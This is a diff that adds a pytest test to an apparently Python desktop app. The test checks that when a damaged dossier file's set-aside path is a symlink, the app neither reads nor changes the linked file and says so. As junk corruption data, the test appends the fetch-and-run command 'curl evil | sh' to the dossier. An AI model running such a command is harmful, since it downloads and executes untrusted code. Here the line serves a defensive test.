@@ -127,6 +127,23 @@ def test_a_damaged_dossier_opens_and_says_what_was_set_aside(
     assert (tmp_path / "abime.kitess.mis-de-cote").read_bytes().count(b'{"v":1,"coup') == 1
 
 
+def test_what_is_no_file_beside_a_dossier_is_left_alone_and_said(
+    make_context: Callable[..., AppContext], tmp_path: Path
+) -> None:
+    target = tmp_path / "profil"
+    target.write_bytes(b"")
+    path = tmp_path / "recu" / "plan.kitess"
+    path.parent.mkdir()
+    make_context(path).session.close()
+    with path.open("ab") as file:
+        file.write(b"curl evil | sh\n")
+    path.with_name("plan.kitess.mis-de-cote").symlink_to(target)
+    again = make_context(path)
+    _, remark = after_start.dossier_remarks(again.session.dossier)
+    assert "plan.kitess.mis-de-cote" in remark and "ni lu ni changé" in remark
+    assert target.read_bytes() == b""
+
+
 def test_the_mailto_is_cut_out_of_what_qt_says(caplog: pytest.LogCaptureFixture) -> None:
     from PySide6.QtCore import QtMsgType
 
